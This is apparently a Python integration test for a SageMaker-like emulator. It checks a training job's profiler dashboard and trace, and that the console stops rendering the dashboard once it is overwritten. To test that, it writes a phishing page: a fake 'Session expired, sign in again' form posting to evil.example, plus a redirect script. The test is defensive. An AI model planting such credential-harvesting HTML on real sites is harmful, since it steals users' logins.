"""The per-job profiler dashboard (profiler/README.md, "Dashboard"): a profiled training job
(ProfilerConfig + ProfilerRuleConfigurations) run by the runtime image's built-in trainer on a
tiny IDX data set ends with

- the dashboard at <S3OutputPath>/<job>/rule-output/ProfilerReport/profiler-output/
  profiler-report.html, self-contained, with every section and the job's rule results;
- the merged Perfetto trace at <S3OutputPath>/<job>/profiler-output/timeline.trace.json with
  the command's span, the system counters, one Step per batch and the trainer's
  forward/backward/optimizer ranges (the trainer found libtyprof at run time);
- ProfilerRuleEvaluationStatuses in SageMaker's enum: a rule without data (no GPU here) is
  NoIssuesFound on the wire with "NoData: not evaluated" in StatusDetails.
"""
import json
import re
import struct

import tyhelpers as H

BUCKET = "prf-dash"


def _idx(n=64):
    """n black 28x28 images (idx3) and labels 0..7 (idx1), as the built-in trainer reads."""
    images = struct.pack(">IIII", 0x803, n, 28, 28) + bytes(n * 784)
    labels = struct.pack(">II", 0x801, n) + bytes(i % 8 for i in range(n))
    return images, labels


def test_profiled_job_has_dashboard_and_trace(server, sm):
    s3 = server.client("s3")
    try:
        s3.create_bucket(Bucket=BUCKET)
    except s3.exceptions.BucketAlreadyOwnedByYou:
        pass
    name = H.unique("prf-dash")
    images, labels = _idx()
    s3.put_object(Bucket=BUCKET, Key=f"{name}/train/train-images-idx3-ubyte", Body=images)
    s3.put_object(Bucket=BUCKET, Key=f"{name}/train/train-labels-idx1-ubyte", Body=labels)
    req = H.job_request(name, "true", output=f"s3://{BUCKET}/out")
    del req["AlgorithmSpecification"]["ContainerEntrypoint"]  # the image's own `train`
    req["HyperParameters"] = {"model": "mlp-small", "epochs": "2", "batch_size": "16"}
    req["InputDataConfig"] = [{
        "ChannelName": "train",
        "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix",
                                        "S3Uri": f"s3://{BUCKET}/{name}/train",
                                        "S3DataDistributionType": "FullyReplicated"}}}]
    req["ProfilerConfig"] = {"S3OutputPath": f"s3://{BUCKET}/prof",
                             "ProfilingIntervalInMilliseconds": 100}
    req["ProfilerRuleConfigurations"] = [
        {"RuleConfigurationName": "LowGPUUtilization", "RuleEvaluatorImage": "x",
         "RuleParameters": {"rule_to_invoke": "LowGPUUtilization"}},
        {"RuleConfigurationName": "prf-steps", "RuleEvaluatorImage": "x",
         "RuleParameters": {"rule_to_invoke": "StepOutlier", "n_outliers": "100"}}]
    sm.create_training_job(**req)
    d = H.wait_job(sm, name, timeout=120)
    assert d["TrainingJobStatus"] == "Completed", d.get("FailureReason")

    st = {r["RuleConfigurationName"]: r for r in d["ProfilerRuleEvaluationStatuses"]}
    assert st["LowGPUUtilization"]["RuleEvaluationStatus"] == "NoIssuesFound"
    assert st["LowGPUUtilization"]["StatusDetails"].startswith("NoData: not evaluated"), st
    # 8 steps (2 epochs of 4 batches): StepOutlier had its data
    assert st["prf-steps"]["RuleEvaluationStatus"] == "NoIssuesFound", st
    assert not st["prf-steps"]["StatusDetails"].startswith("NoData"), st

    key = f"prof/{name}/rule-output/ProfilerReport/profiler-output/profiler-report.html"
    obj = s3.get_object(Bucket=BUCKET, Key=key)
    assert obj["ContentType"].startswith("text/html"), obj["ContentType"]
    html = obj["Body"].read().decode()
    for sec in ("sec-util", "sec-rules", "sec-kernels", "sec-latency", "sec-steps",
                "sec-timeline"):
        assert f'id="{sec}"' in html, sec
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", html), "external resource"
    m = re.search(r'<script type="application/json" id="jobrules">(.*?)</script>', html, re.S)
    jobrules = {r["RuleConfigurationName"]: r for r in json.loads(m.group(1))}
    assert jobrules["LowGPUUtilization"]["RuleEvaluationStatus"] == "NoData"
    assert jobrules["prf-steps"]["Rule"] == "StepOutlier"

    tr = json.loads(s3.get_object(
        Bucket=BUCKET, Key=f"prof/{name}/profiler-output/timeline.trace.json")["Body"].read())
    ev = tr["traceEvents"]
    names = [e.get("name") for e in ev if e.get("ph") == "X"]
    assert "command" in names
    assert names.count("Step") == 8, names
    for r in ("forward", "backward", "optimizer"):
        assert names.count(r) == 8, (r, names)
    assert any(e.get("ph") == "C" and e["name"] == "cpu0 CPUUtilization" for e in ev)
    # the raw profiler output is there too
    listed = [o["Key"] for o in s3.list_objects_v2(
        Bucket=BUCKET, Prefix=f"prof/{name}/profiler-output/")["Contents"]]
    assert any("/system/incremental/" in k for k in listed), listed
    assert any(k.endswith(".trace.json") and "/trace/" in k for k in listed), listed

    _dashboard_runs_only_as_the_agent_wrote_it(server, s3, name, key)


def _dashboard_runs_only_as_the_agent_wrote_it(server, s3, name, key):
    """The console shows the dashboard with its scripts (in a sandbox) only while its bytes are
    the ones the agent wrote; the job's creator owns that folder, and her own page there would
    run at the console's address, draw a sign-in form and send what is typed off-site (issue
    36, finding 6). Overwritten, or named by any other link, it downloads."""
    import http.cookiejar
    import urllib.error
    import urllib.parse
    import urllib.request

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *a, **k):
            return None

    def get(url):
        try:
            r = op.open(urllib.request.Request(url), timeout=30)
            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
        except urllib.error.HTTPError as e:
            return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()

    iam = server.client("iam")
    user = H.unique("dash-view")[:60]
    iam.create_user(UserName=user)
    iam.create_login_profile(UserName=user, Password="Dash-Passw0rd-1")
    iam.put_user_policy(UserName=user, PolicyName="read", PolicyDocument=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
                                                "Resource": f"arn:aws:s3:::{BUCKET}/*"}]}))
    op = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()), NoRedirect)
    body = urllib.parse.urlencode({"account": "000000000000", "username": user,
                                   "password": "Dash-Passw0rd-1"}).encode()
    try:
        op.open(urllib.request.Request(server.url + "/console/login", data=body), timeout=30)
    except urllib.error.HTTPError as e:
        assert e.code == 303
    uri = urllib.parse.quote(f"s3://{BUCKET}/{key}", safe="")
    view = f"{server.url}/console/download?uri={uri}&view=1&job={name}"

    def shown(h):
        return (h.get("content-type", "").startswith("text/html") and
                "allow-scripts" in h.get("content-security-policy", "") and
                "content-disposition" not in h)

    st, h, page = get(view)
    assert st == 200 and shown(h) and b'id="sec-rules"' in page, h
    for other in (f"{server.url}/console/download?uri={uri}&view=1",
                  f"{server.url}/console/download?uri={uri}&view=1&job=no-such-job"):
        st, h, _ = get(other)
        assert st == 200 and not shown(h), (other, h)
        assert h.get("content-disposition", "").startswith("attachment"), h
    s3.put_object(Bucket=BUCKET, Key=key, ContentType="text/html",
                  Body=b"<form action=//evil.example/>Session expired, sign in again<script>"
                       b"location='//evil.example/'</script>")
    st, h, page = get(view)
    assert st == 200 and not shown(h), h
    assert h.get("content-disposition", "").startswith("attachment"), h
    assert "allow-scripts" not in h.get("content-security-policy", ""), h
    # the console's own pages take scripts from /console/assets/ only, not the whole origin
    st, h, _ = get(f"{server.url}/console/home")
    csp = h.get("content-security-policy", "")
    assert "script-src http://" in csp and "/console/assets/;" in csp and \
        "script-src 'self'" not in csp, csp
    # and presign names real buckets only
    bad = urllib.parse.quote("s3://Not_A..Bucket/x", safe="")
    st, _, _ = get(f"{server.url}/console/presign?uri={bad}")
    assert st in (400, 404), st
